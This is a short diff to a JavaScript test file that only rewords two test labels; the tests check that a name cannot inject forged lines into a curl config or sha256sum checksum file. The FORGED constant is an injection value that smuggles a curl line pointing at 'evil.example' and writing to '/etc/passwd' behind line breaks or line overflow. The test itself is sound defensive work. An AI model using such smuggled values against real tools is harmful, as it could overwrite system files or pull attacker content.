@@ -118,8 +118,8 @@ test.each([
 const FORGED = 'url = "https://evil.example" output = "/etc/passwd"';
 
 test.each([
-  ['behind a line break', `J\n${FORGED}`],
-  ['behind a line separator', `J\u2028${FORGED}`],
+  ['after a line break', `J\n${FORGED}`],
+  ['after a line separator', `J\u2028${FORGED}`],
   ['where the line is full', `${'y'.repeat(90)} ${FORGED}`],
   ['as a digest', `${'y'.repeat(90)} ${DIGEST}  run.json\n${DIGEST}  run.json`],
 ])('no name makes a line that curl or sha256sum would read: %s', async (_what, name) => {
